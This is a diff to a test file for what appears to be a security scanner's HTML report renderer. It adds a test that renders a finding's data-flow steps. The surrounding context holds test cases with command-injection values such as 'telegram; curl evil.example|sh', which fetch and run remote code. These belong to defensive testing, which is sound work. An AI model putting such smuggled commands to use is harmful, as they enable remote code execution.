@@ -69,6 +69,22 @@ describe('HTML', () => {
     );
   });
 
+  test('a finding about a way tells it step by step, and then only the places that are not on it', () => {
+    const at = (line: number) => ({ file: '/home/u/.openclaw/a.js', line, column: 1, exact: true });
+    const flows = [
+      [
+        { location: at(1), text: 'reads a key' },
+        { location: at(2), text: 'sends it' },
+      ],
+    ];
+    const one = finding(1, { locations: [at(2), at(1), at(7)], flows });
+    const text = renderPage({ ...emptyReport(), findings: [one] });
+    expect(text).toContain(
+      '<h4>Step by step</h4><ol><li>reads a key <span class="dim">a.js:1:1</span></li><li>sends it <span class="dim">a.js:2:1</span></li></ol>',
+    );
+    expect(text).toContain('<h4>Also at</h4><ul class="dim"><li>a.js:7:1</li></ul>');
+  });
+
   test.each([
     ['a name that ends the command', 'telegram; curl evil.example|sh', 0],
     ['a name that brings a command of its own', 'x` or `curl evil.example', 0],
